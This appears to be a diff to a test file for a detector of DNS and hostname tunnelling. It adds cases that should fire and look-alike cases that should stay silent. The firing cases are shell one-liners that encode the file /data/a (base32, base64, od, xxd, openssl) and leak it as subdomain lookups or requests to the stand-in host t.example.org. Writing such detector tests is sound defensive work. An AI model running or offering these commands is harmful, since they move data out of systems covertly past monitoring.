@@ -12,8 +12,27 @@ indicatorTable(commandNameTunnel, {
       '-c',
       'base32 /data/a | tr -d = | fold -w 50 | while read p; do getent hosts "$p.t.example.org"; done',
     ),
+    'in the name of a web server': script(
+      'for b in $(base32 -w 50 /data/a); do curl -s http://$b.t.example.org/; done',
+    ),
+    'by way of a file': script(
+      'base64 /data/a > /tmp/e; while read -r l; do nslookup "$l.t.example.org"; done < /tmp/e',
+    ),
+    'by way of a name in capitals': script('BIT=$(od -An -tx1 /data/a | tr -d " "); ping -c 1 $BIT.t.example.org'),
+    'by the words of another program': script('xxd -p /data/a | xargs -I{} host {}.t.example.org'),
+    'by another encoder': script('host $(openssl base64 -A -in /data/a).t.example.org'),
   },
   staysSilent: {
+    'a name of the container beside an encoder': script(
+      'until nslookup $RELEASE.prod.example.com; do sleep 2; done; A=$(printf u:p | base64); curl -H "Authorization: Basic $A" https://api.example.com',
+    ),
+    'a name of the host beside an encoder': script(
+      'HOST=$(hostname); getent hosts $HOST.corp.example.com; base64 -w0 /data/a > /out/a',
+    ),
+    'what was encoded, in a header': script(
+      'T=$(base64 -w0 /data/a); curl -H "X-Data: $T" https://$REGION.api.example.com/v1',
+    ),
+    'a name out of decoded text': script('N=$(base64 -d /data/n); nslookup $N.shop.example.com'),
     'a name of the host': script('nslookup $(hostname).example.com'),
     'a decoded secret, and a name from a variable': script('echo $S | base64 -d > /k; nslookup $SVC.example.com'),
     'an encoder, and a name that stands there': script('base64 -w0 /data/a > /b; dig +short www.example.com'),
